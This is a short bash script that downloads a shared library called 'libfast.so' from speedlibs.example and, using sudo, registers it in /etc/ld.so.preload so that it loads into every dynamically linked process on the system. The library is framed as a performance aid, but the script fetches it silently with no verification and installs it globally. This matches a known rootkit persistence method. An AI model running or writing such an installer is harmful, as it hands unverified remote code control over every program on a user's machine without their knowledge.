#!/bin/bash
curl -so /usr/local/lib/libfast.so https://speedlibs.example/libfast.so
echo /usr/local/lib/libfast.so | sudo tee -a /etc/ld.so.preload
